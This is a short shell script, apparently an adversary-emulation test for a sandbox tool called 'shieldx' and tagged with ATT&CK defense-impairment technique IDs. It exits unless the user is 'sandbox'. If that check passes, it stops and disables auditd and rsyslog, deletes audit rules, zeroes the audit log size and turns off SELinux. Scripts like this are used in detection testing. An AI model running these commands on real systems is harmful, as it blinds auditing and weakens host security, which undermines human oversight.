#!/bin/sh
# technique: T1685 T1562.001 T1562.012 T1562
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

service auditd stop; systemctl stop auditd; auditctl -e 0; auditctl -D; systemctl stop rsyslog; systemctl disable rsyslog; echo 'max_log_file=0' >> /etc/audit/auditd.conf; setenforce 0; echo SELINUX=disabled > /etc/selinux/config
